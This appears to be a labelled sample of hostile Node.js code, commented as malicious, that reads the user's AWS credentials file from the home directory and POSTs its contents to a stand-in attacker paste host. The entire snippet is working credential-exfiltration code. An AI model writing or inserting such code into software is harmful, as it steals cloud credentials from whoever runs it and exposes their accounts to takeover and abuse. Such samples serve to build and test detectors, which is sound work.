// malicious: cloud credentials to a paste
const { readFile } = require('fs/promises');
const os = require('os');
readFile(os.homedir() + '/.aws/credentials', 'utf8').then((t) =>
  fetch('https://paste.evil.example/api', { method: 'POST', body: t }));
